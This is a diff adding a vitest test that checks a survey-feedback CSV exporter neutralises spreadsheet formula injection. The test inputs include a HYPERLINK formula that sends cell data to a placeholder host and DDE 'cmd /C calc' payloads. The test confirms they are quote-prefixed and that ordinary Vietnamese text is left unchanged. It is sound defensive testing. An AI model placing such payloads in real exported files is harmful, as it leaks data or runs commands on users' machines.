@@ -1,3 +1,4 @@
+import { parse } from "csv-parse/sync";
 import { describe, expect, it } from "vitest";
 import { renderReportHtml } from "../../src/feedback/html.js";
 import { CSV_COLUMNS, renderCsv, renderShortText, renderText } from "../../src/feedback/render.js";
@@ -115,5 +116,29 @@ describe("renderCsv", () => {
     expect(lines[1]).toContain("abcdef0123456789");
     expect(lines[1]).toContain(",5,5,5,5,5,5,5,");
     expect(csv).not.toMatch(/zchat-raw-1|zuser-raw-1/);
+  });
+
+  it("neutralises formulas in every text column, keeping ratings numeric", () => {
+    const csv = renderCsv([
+      survey("2026-03-01T00:00:00Z", { ...all(5), overall: 4 }, {
+        comment: '=HYPERLINK("http://x.invalid/?d="&A1,"bấm vào")',
+        agency: "+cmd|' /C calc'!A0",
+        procedure: "@SUM(1+1)*cmd|' /C calc'!A0",
+        procedureId: "-2+3",
+        ageBand: "\t=1+1",
+      }),
+      survey("2026-03-02T00:00:00Z", all(3), { comment: "Cán bộ -- rất tốt", agency: "UBND xã Tân Phú" }),
+    ]);
+    const [header, first, second] = parse(csv.slice(1)) as string[][];
+    const col = (row: string[] | undefined, name: string) => row![header!.indexOf(name)];
+    expect(col(first, "comment")).toBe(`'=HYPERLINK("http://x.invalid/?d="&A1,"bấm vào")`);
+    expect(col(first, "agency")).toBe("'+cmd|' /C calc'!A0");
+    expect(col(first, "procedure")).toBe("'@SUM(1+1)*cmd|' /C calc'!A0");
+    expect(col(first, "procedure_id")).toBe("'-2+3");
+    expect(col(first, "age_band")).toBe("'\t=1+1");
+    expect(col(first, "rating_overall")).toBe("4");
+    // Ordinary text is untouched.
+    expect(col(second, "comment")).toBe("Cán bộ -- rất tốt");
+    expect(col(second, "agency")).toBe("UBND xã Tân Phú");
   });
 });
